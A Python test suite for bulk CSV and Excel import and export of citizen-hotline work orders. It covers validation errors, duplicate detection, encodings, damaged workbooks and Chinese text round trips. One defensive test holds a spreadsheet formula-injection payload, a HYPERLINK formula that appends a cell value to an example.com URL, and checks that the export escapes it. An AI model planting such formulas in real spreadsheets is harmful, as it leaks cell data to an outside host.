"""Bulk import and export of orders, as a 12345 centre uses them: spreadsheets typed by people in,
spreadsheets opened in Excel out."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, update

from minhu.core import clock
from minhu.core.db import Database
from minhu.core.errors import DomainError
from minhu.orders import transfer
from minhu.orders.enums import Channel, OrderType, Urgency
from minhu.orders.models import WorkOrder
from minhu.orders.queries import OrderFilters
from minhu.orders.states import Action, Status
from tests.factories import World, make_order

HEADER = "external_id,type,channel,urgency,title,content,citizen_name,citizen_phone,address,latitude,longitude"

# Traditional characters, emoji (with a ZWJ sequence and a flag), full-width punctuation and space,
# a CJK Extension B character, a line break inside the value: what citizens really write.
HARD_TITLE = "臺灣繁體：龍鳳呈祥，請儘快處理！😀"
HARD_CONTENT = ("「樓下」餐館油煙直排（已持續兩週）；窗戶不敢開？\u3000全家👨\u200d👩\u200d👧都受影響。🇨🇳\n"
                "第二行：𠀀字、１２３、ＡＢＣ……“引號”【括號】")
HARD_NAME = "歐陽先生🙂"
HARD_ADDRESS = "武昌區積玉橋街　和平大道８８號（東門）\u3000"


def write_csv(path: Path, text: str, *, bom: bool = False) -> Path:
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def orders_by_title(db: Database) -> dict[str, WorkOrder]:
    with db.read() as s:
        return {o.title: o for o in s.scalars(select(WorkOrder))}


def order_count(db: Database) -> int:
    with db.read() as s:
        return s.scalar(select(func.count()).select_from(WorkOrder)) or 0


def exported_csv(db: Database, filters: OrderFilters | None = None, *,
                 contacts: bool = False) -> list[dict[str, str]]:
    data = transfer.write_export(transfer.export_rows(db, viewer=None, filters=filters or OrderFilters(),
                                                      contacts=contacts), None, "csv")
    assert data is not None
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- import ------------------------------------------------------------------------------------


def test_bad_row_is_reported_with_its_line_and_never_blocks_good_rows(db: Database, world: World,
                                                                     tmp_path: Path) -> None:
    lines = [
        HEADER + ",remark",
        ",complaint,hotline,normal,夜间施工噪音,工地每晚施工到凌晨两点。,王女士,138 1234 5678,和平大道,30.565,114.305,",
        ",help,hotline,,路灯不亮,小区路灯坏了三天。,刘先生,12345,和平社区,,,",
        ",complaint,hotline,,,没有标题的诉求,孙女士,13545678901,,,,",
        ",抱怨,hotline,,类型写错,内容,赵先生,13907151234,,,,",
        ",report,hotline,,坐标填错,内容,吴先生,13377778888,,95,114.3,",
        # Chinese labels, and a content that spans two lines of the file (lines 7 and 8).
        ',投诉,12345热线,紧急,餐馆油烟直排,"油烟直接排到居民楼，\n窗户都不敢开。",郑女士,027-88881234,临江大道,,,',
        ",suggestion,web_board,,多填了备注,内容,冯先生,18971112222,,,,请尽快",
        ",suggestion,web_board,,多出一格,内容,钱阿姨,13995551234,,,,,多余的值",
        ",consultation,,,医保怎么交,灵活就业人员如何缴纳医保？,,,,,,",
    ]
    path = write_csv(tmp_path / "orders.csv", "\r\n".join(lines) + "\r\n", bom=True)

    report = transfer.import_orders(db, path, actor=None)

    problems = {p.line: p.reason for p in report.problems}
    assert sorted(problems) == [3, 4, 5, 6, 9, 10]
    assert "citizen_phone" in problems[3]
    assert "title" in problems[4]
    assert problems[5].startswith("type:")
    assert "latitude" in problems[6]
    assert "remark" in problems[9]
    assert "第 13 列" in problems[10]
    assert len(report.created) == 3
    assert report.skipped == []

    orders = orders_by_title(db)
    assert set(orders) == {"夜间施工噪音", "餐馆油烟直排", "医保怎么交"}
    noise = orders["夜间施工噪音"]
    assert (noise.type, noise.channel, noise.urgency) == (OrderType.COMPLAINT, Channel.HOTLINE, Urgency.NORMAL)
    assert noise.citizen_phone == "13812345678"
    assert (noise.latitude, noise.longitude) == (30.565, 114.305)
    assert noise.status is Status.NEW
    assert noise.owner_unit_id == world.centre.id
    fumes = orders["餐馆油烟直排"]
    assert (fumes.type, fumes.channel, fumes.urgency) == (OrderType.COMPLAINT, Channel.HOTLINE, Urgency.URGENT)
    assert fumes.content == "油烟直接排到居民楼，\n窗户都不敢开。"
    assert fumes.citizen_phone == "027-88881234"
    consultation = orders["医保怎么交"]
    assert consultation.channel is Channel.IMPORT  # no channel given: the import's default
    assert consultation.citizen_phone is None


def test_rows_imported_by_an_operator_are_accepted_at_once(db: Database, world: World, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "o.csv", HEADER + "\n,help,hotline,,井盖缺失,人行道井盖丢失。,,,,,\n")

    report = transfer.import_orders(db, path, actor=world.operator)

    assert report.problems == []
    assert orders_by_title(db)["井盖缺失"].status is Status.ACCEPTED


def test_reimporting_a_file_with_external_ids_creates_no_duplicates(db: Database, world: World,
                                                                   tmp_path: Path) -> None:
    path = write_csv(tmp_path / "batch.csv", "\n".join([
        HEADER,
        "HX-001,complaint,hotline,,噪音扰民,夜间施工。,王女士,13812345678,,,",
        "HX-002,help,hotline,,路灯不亮,三天未修。,刘先生,13907151234,,,",
        ",praise,hotline,,表扬网格员,态度很好。,,,,,",
    ]) + "\n")

    first = transfer.import_orders(db, path, actor=None)
    second = transfer.import_orders(db, path, actor=None)

    assert len(first.created) == 3
    assert second.problems == []
    assert sorted(second.skipped) == sorted(first.created[:2])  # the same orders, found again
    assert len(second.created) == 1  # the row without external_id is imported again, as asked
    assert order_count(db) == 4


def test_a_used_external_id_with_changed_content_is_reported_and_not_duplicated(db: Database, world: World,
                                                                                tmp_path: Path) -> None:
    first = write_csv(tmp_path / "a.csv", HEADER + "\nHX-9,complaint,hotline,,噪音扰民,夜间施工。,,,,,\n")
    changed = write_csv(tmp_path / "b.csv", HEADER + "\nHX-9,complaint,hotline,,噪音扰民,白天也施工。,,,,,\n")
    number = transfer.import_orders(db, first, actor=None).created[0]

    report = transfer.import_orders(db, changed, actor=None)

    assert report.created == []
    [problem] = report.problems
    assert problem.line == 2
    assert "external_id" in problem.reason
    assert "HX-9" in problem.reason
    assert number in problem.reason
    assert order_count(db) == 1


def test_xlsx_import_keeps_good_rows_and_reports_bad_ones_by_their_row(db: Database, world: World,
                                                                      tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([*HEADER.split(","), "anonymous"])
    # Excel users type phones and coordinates as numbers.
    sheet.append(["X-1", "投诉", "12345热线", "特急", "燃气泄漏", "楼道燃气味很浓。", "郑女士", 15071234567, "粮道街",
                  30.55, 114.3, "否"])
    sheet.append(["X-2", "help", "hotline", None, "电话写错", "内容", "钱阿姨", 1234, None, None, None, None])
    sheet.append([None] * 12)  # a blank row in the middle is skipped, not reported
    sheet.append(["X-3", "求助", "网上留言板", None, "匿名求助", "内容", None, None, None, None, None, "是"])
    sheet.append(["X-4", "complaint", "hotline", None, None, "缺标题", None, None, None, None, None, None])
    path = tmp_path / "orders.xlsx"
    workbook.save(path)

    report = transfer.import_orders(db, path, actor=None)
    again = transfer.import_orders(db, path, actor=None)

    assert [(p.line, p.reason.split(":")[0]) for p in report.problems] == [(3, "citizen_phone"), (6, "title")]
    assert len(report.created) == 2
    orders = orders_by_title(db)
    gas = orders["燃气泄漏"]
    assert (gas.type, gas.channel, gas.urgency) == (OrderType.COMPLAINT, Channel.HOTLINE, Urgency.EMERGENCY)
    assert gas.citizen_phone == "15071234567"
    assert (gas.latitude, gas.longitude, gas.anonymous) == (30.55, 114.3, False)
    help_ = orders["匿名求助"]
    assert (help_.type, help_.channel, help_.anonymous) == (OrderType.HELP, Channel.WEB_BOARD, True)
    assert sorted(again.skipped) == sorted(report.created)
    assert order_count(db) == 2


def test_a_csv_saved_in_a_legacy_chinese_encoding_is_refused_with_advice(db: Database, world: World,
                                                                        tmp_path: Path) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes((HEADER + "\n,complaint,hotline,,噪音扰民,夜间施工。,,,,,\n").encode("gbk"))

    with pytest.raises(DomainError, match="UTF-8"):
        transfer.import_orders(db, path, actor=None)
    assert order_count(db) == 0


def test_a_header_naming_a_column_twice_is_refused(db: Database, world: World, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "dup.csv", "type,title,content,title\ncomplaint,一,内容,二\n")

    with pytest.raises(DomainError, match="title"):
        transfer.import_orders(db, path, actor=None)
    assert order_count(db) == 0


def test_an_unsupported_file_kind_is_refused(db: Database, world: World, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "orders.txt", HEADER + "\n")

    with pytest.raises(DomainError, match=r"\.txt"):
        transfer.import_orders(db, path, actor=None)


def damaged_workbook(path: Path, *, rows: int, at: float) -> Path:
    """A workbook of ``rows`` orders whose sheet's compressed data is overwritten at ``at`` (0–1) of its length."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["title", "content", "type"])
    for i in range(rows):
        sheet.append([f"路灯不亮 {i}", f"第 {i} 号路灯不亮", "complaint"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    raw = bytearray(buffer.getvalue())
    entry = zipfile.ZipFile(io.BytesIO(bytes(raw))).getinfo("xl/worksheets/sheet1.xml")
    local = entry.header_offset  # the local header: 30 bytes, then the name and the extra field
    start = local + 30 + int.from_bytes(raw[local + 26:local + 28], "little") + int.from_bytes(
        raw[local + 28:local + 30], "little")
    damage = start + int(entry.compress_size * at)
    raw[damage:damage + 8] = b"\xff" * 8
    path.write_bytes(bytes(raw))
    return path


def test_a_damaged_workbook_keeps_the_rows_before_the_damage_and_names_where_it_starts(tmp_path: Path) -> None:
    # Read lazily, a damaged sheet failed inside zlib or the XML parser with a traceback.
    rows = list(transfer.read_rows(damaged_workbook(tmp_path / "orders.xlsx", rows=300, at=0.6)))

    *good, (line, problem) = rows
    assert 100 < len(good) < 300
    assert all(isinstance(row, dict) for _, row in good)
    assert line == good[-1][0] + 1
    assert isinstance(problem, str)
    assert problem.startswith("文件自此行起已损坏，无法读取")


def test_a_workbook_damaged_before_its_header_is_refused(db: Database, tmp_path: Path) -> None:
    path = damaged_workbook(tmp_path / "orders.xlsx", rows=300, at=0.01)

    with pytest.raises(DomainError, match="无法读取 Excel 文件") as caught:
        transfer.import_orders(db, path, actor=None)
    assert caught.value.code == "unreadable_file"
    assert order_count(db) == 0


# --- round trip ----------------------------------------------------------------------------------


def test_chinese_text_round_trips_byte_for_byte_through_import_and_export(db: Database, world: World,
                                                                        tmp_path: Path) -> None:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["type", "channel", "title", "content", "citizen_name", "address"])
    writer.writerow(["投诉", "网上留言板", HARD_TITLE, HARD_CONTENT, HARD_NAME, HARD_ADDRESS])
    path = write_csv(tmp_path / "hard.csv", buffer.getvalue(), bom=True)

    report = transfer.import_orders(db, path, actor=None)
    assert report.problems == []

    [row] = exported_csv(db, contacts=True)  # a file to import elsewhere carries the citizen's contact
    for column, sent in (("title", HARD_TITLE), ("content", HARD_CONTENT), ("citizen_name", HARD_NAME),
                         ("address", HARD_ADDRESS)):
        assert row[column].encode("utf-8") == sent.encode("utf-8"), column

    xlsx = tmp_path / "out.xlsx"
    transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters(), contacts=True), xlsx, "xlsx")
    sheet = load_workbook(xlsx, read_only=True).worksheets[0]
    header, values = list(sheet.iter_rows(values_only=True))
    cells = dict(zip(header, values, strict=True))
    assert cells["title"] == HARD_TITLE
    assert cells["content"] == HARD_CONTENT
    assert cells["citizen_name"] == HARD_NAME
    assert cells["address"] == HARD_ADDRESS


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(db: Database, world: World,
                                                                      tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.com/?"&A1,"点击查看")'
    make_order(db, world, title=formula, content="@SUM(1+1)", address="#N/A")

    [row] = exported_csv(db)
    assert row["title"] == "'" + formula
    assert row["content"] == "'@SUM(1+1)"

    xlsx = tmp_path / "out.xlsx"
    transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters()), xlsx, "xlsx")
    sheet = load_workbook(xlsx).worksheets[0]
    title, content, address = (sheet.cell(row=2, column=transfer.EXPORT_COLUMNS.index(c) + 1)
                               for c in ("title", "content", "address"))
    assert (title.value, title.data_type) == (formula, "s")
    assert (content.value, content.data_type) == ("@SUM(1+1)", "s")
    assert (address.value, address.data_type) == ("#N/A", "s")


def test_control_characters_do_not_break_the_excel_export(db: Database, world: World, tmp_path: Path) -> None:
    order = make_order(db, world)
    # Text is refused with control characters now; an order kept from before may still hold them.
    with db.transaction() as s:
        s.execute(update(WorkOrder).where(WorkOrder.id == order.id).values(
            content="从网页复制的文字\x0b带垂直制表符\x1b"))
    xlsx = tmp_path / "out.xlsx"

    transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters()), xlsx, "xlsx")

    sheet = load_workbook(xlsx).worksheets[0]
    content = sheet.cell(row=2, column=transfer.EXPORT_COLUMNS.index("content") + 1).value
    assert content == "从网页复制的文字\u240b带垂直制表符\u241b"
    assert exported_csv(db)[0]["content"] == "从网页复制的文字\x0b带垂直制表符\x1b"


# --- export ------------------------------------------------------------------------------------


def test_csv_export_starts_with_a_bom_and_a_header_excel_understands(db: Database, world: World) -> None:
    order = make_order(db, world, latitude=30.565, longitude=114.305)

    data = transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters()), None, "csv")

    assert data is not None
    assert data.startswith(b"\xef\xbb\xbf" + b"number,status,status_label,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(transfer.EXPORT_COLUMNS)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["number"] == order.number
    assert (row["status"], row["status_label"]) == ("accepted", "已受理")
    assert (row["type"], row["type_label"], row["channel_label"]) == ("complaint", "投诉", "12345热线")
    assert (row["latitude"], row["longitude"]) == ("30.565", "114.305")
    assert row["owner_unit"] == "区12345指挥中心"
    assert row["created_at"].endswith("+08:00")


def test_csv_export_to_a_file_writes_the_same_bytes(db: Database, world: World, tmp_path: Path) -> None:
    make_order(db, world)
    path = tmp_path / "out.csv"

    assert transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters()), path, "csv") is None
    assert path.read_bytes() == transfer.write_export(
        transfer.export_rows(db, viewer=None, filters=OrderFilters()), None, "csv")


def _at(day: int, hour: int) -> datetime:
    return datetime(2026, 3, day, hour, tzinfo=UTC)


def test_export_filters_select_orders_by_status_type_and_created_range(db: Database, world: World) -> None:
    made: dict[str, Any] = {}
    with clock.frozen(_at(1, 2)):
        made["accepted"] = make_order(db, world, title="一号", type="complaint")
    with clock.frozen(_at(2, 2)):
        made["dispatched"] = make_order(db, world, title="二号", type="help", upto=Action.DISPATCH)
    with clock.frozen(_at(3, 2)):
        made["archived"] = make_order(db, world, title="三号", type="complaint", upto=Action.ARCHIVE)
    with clock.frozen(_at(4, 2)):
        made["suggestion"] = make_order(db, world, title="四号", type="suggestion")

    def titles(**filters: Any) -> list[str]:
        return [row["title"] for row in exported_csv(db, OrderFilters(**filters))]

    assert titles() == ["一号", "二号", "三号", "四号"]  # oldest first
    assert titles(statuses=[Status.ACCEPTED]) == ["一号", "四号"]
    assert titles(statuses=[Status.DISPATCHED, Status.ARCHIVED]) == ["二号", "三号"]
    assert titles(type=OrderType.COMPLAINT) == ["一号", "三号"]
    assert titles(type=OrderType.COMPLAINT, statuses=[Status.ARCHIVED]) == ["三号"]
    # From inclusive, to exclusive.
    assert titles(created_from=_at(2, 2), created_to=_at(4, 2)) == ["二号", "三号"]
    assert titles(created_from=_at(2, 3)) == ["三号", "四号"]
    assert titles(created_to=_at(1, 2)) == []
    assert titles(statuses=[Status.VOIDED]) == []


def test_xlsx_export_opens_in_openpyxl_with_a_header_and_every_row(db: Database, world: World,
                                                                  tmp_path: Path) -> None:
    first = make_order(db, world, title="第一单", latitude=30.5, longitude=114.3)
    second = make_order(db, world, title="第二单", upto=Action.ARCHIVE)
    path = tmp_path / "orders.xlsx"

    assert transfer.write_export(transfer.export_rows(db, viewer=None, filters=OrderFilters()), path, "xlsx") is None

    workbook = load_workbook(path)
    assert workbook.sheetnames == ["工单"]
    rows = list(workbook["工单"].iter_rows(values_only=True))
    assert rows[0] == transfer.EXPORT_COLUMNS
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(r["number"], r["title"]) for r in table] == [(first.number, "第一单"), (second.number, "第二单")]
    assert (table[0]["latitude"], table[0]["longitude"]) == (30.5, 114.3)
    assert (table[1]["status_label"], table[1]["resolution"], table[1]["satisfaction"]) == (
        "已归档", "resolved", "satisfied")
    assert table[1]["reply_text"] == "已处理完毕"


def test_xlsx_export_needs_a_file(db: Database) -> None:
    with pytest.raises(DomainError, match="--output"):
        transfer.write_export([], None, "xlsx")
